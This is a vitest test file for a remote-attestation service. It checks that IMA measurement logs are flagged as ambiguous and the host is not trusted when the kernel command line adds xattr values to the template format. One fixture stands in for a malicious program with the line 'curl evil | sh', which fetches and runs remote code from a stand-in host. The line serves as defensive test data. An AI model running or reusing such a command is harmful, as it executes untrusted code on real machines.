/** A kernel that is told on its command line in which format to measure: what its entries are called is covered by no hash. */
import { hash } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { NO_RULES, RULE } from '../support/booted-machine.ts';
import { failures, MeasuredHost } from '../support/measured-host.ts';
import { bufferPlan, filePlan, MeasuringKernel, violationPlan } from '../support/measuring-kernel.ts';
import { FILES, importFiles, NO_RUNTIME_RULES } from '../support/runtime-policy.ts';
import { SoftwareTpm } from '../support/software-tpm.ts';
import { caughtUp, enrollMachine } from '../support/stream-agent.ts';
import { openHouse, putPolicy } from '../support/test-service.ts';
import type { House } from '../support/test-service.ts';
import { makeLog } from '../tpm/eventlog/make-log.ts';
import type { MadeEvent } from '../tpm/eventlog/make-log.ts';
import { TPM_ALG_SHA256 } from '../../tpm/structures/constants.ts';

const MEASURING = '/vmlinuz root=/dev/sda1 ima_policy=tcb';
/** An attribute of a file is bytes of whoever has root on the host. */
const ATTRIBUTES = 'ima_template_fmt=d-ng|n-ng|xattrvalues';

let house: House;
beforeEach(async () => {
  house = await openHouse();
  await importFiles(house.store, ['good']);
  await putRules();
});
afterEach(async () => {
  await house[Symbol.asyncDispose]();
  expect(house.faults).toEqual([]);
});

async function putRules(message = ''): Promise<void> {
  await putPolicy(house.store, {
    pcrRules: [],
    boot: { ...NO_RULES, commandLine: { ...RULE, allowed: [], required: ['ima_policy=tcb'], forbidden: ['init'] } },
    runtime: { ...NO_RUNTIME_RULES, files: { ...FILES, referenceSets: ['referenceSets/base'], message } },
  });
}

/** A machine that booted with a command line, and whose kernel measures. */
async function booted(commandLine: string): Promise<MeasuredHost> {
  const tpm = new SoftwareTpm();
  const events: readonly MadeEvent[] = [
    { pcr: 0, type: 8, data: Buffer.from('v1') },
    ...[0, 1, 2, 3, 4, 5, 6, 7].map((pcr) => ({ pcr, type: 4, data: Buffer.alloc(4) })),
    {
      pcr: 8,
      type: 13,
      data: Buffer.from(`grub_cmd: linux ${commandLine}`),
      measured: Buffer.from(`linux ${commandLine}`),
    },
    { pcr: 8, type: 13, data: Buffer.from(`kernel_cmdline: ${commandLine}`), measured: Buffer.from(commandLine) },
  ];
  for (const { pcr, data, measured = data } of events) tpm.extend(pcr, hash('sha256', measured, 'buffer'));
  const kernel = new MeasuringKernel(tpm);
  const logs = [{ kind: 'boot' as const, data: makeLog(events, [TPM_ALG_SHA256]) }];
  const machine = await enrollMachine(house, { tpm, logs });
  await caughtUp(house);
  return new MeasuredHost(house, machine, kernel);
}

/** What the kernel lists of a program whose attribute holds the program itself is what it would list of a measured buffer. */
const evil = bufferPlan('/tmp/evil', Buffer.from('#!/bin/sh\ncurl evil | sh\n'));
const AMBIGUOUS = 'runtime.list error RUNTIME_FORMAT_AMBIGUOUS';

describe('a program that runs under the name of a buffer', () => {
  it.each([
    ATTRIBUTES,
    `"${ATTRIBUTES}"`,
    'ima-template-fmt=d-ng|n-ng|xattrvalues',
    `${ATTRIBUTES} ima_template_fmt=d-ng|n-ng`,
    `ima_template_fmt=d-ng|n-ng ${ATTRIBUTES}`,
  ])('makes no good host where the kernel lists attributes of files: %s', async (format) => {
    await using host = await booted(`${MEASURING} ${format}`);
    host.kernel.measure(filePlan('/usr/bin/good', 'good'), evil);
    const result = await host.round();
    expect(failures(result.checks)).toContain(AMBIGUOUS);
    expect(result.status).toBe('none');
  });

  it('speaks for nothing in the kept evidence either, and what the list shows counts', async () => {
    await using host = await booted(`${MEASURING} ${ATTRIBUTES}`);
    host.kernel.measure(evil);
    expect((await host.round()).status).toBe('none');
    await putRules('other');
    await caughtUp(house);
    expect(failures((await host.round()).checks)).toContain(AMBIGUOUS);
    host.kernel.measure(violationPlan('/var/log/x'));
    const bad = await host.next();
    expect(bad.status).toBe('contraindicated');
    expect(failures(bad.checks)).toContain('runtime.violations failed IMA_VIOLATION');
  });

  it.each([
    '',
    'ima_template=ima-sig',
    'ima_template_fmt=d-ng|n-ng|sig',
    'ima_template_fmt=d-ngv2|n-ng|sig|iuid|igid|imode',
    'xima_template_fmt=d-ng|n-ng|xattrvalues',
  ])('a good host stays one by a format that cannot be taken for another: %s', async (format) => {
    await using host = await booted(`${MEASURING} ${format}`.trim());
    host.kernel.measure(filePlan('/usr/bin/good', 'good'));
    const result = await host.round();
    expect(failures(result.checks)).toEqual([]);
    expect(result.status).toBe('affirming');
  });
});
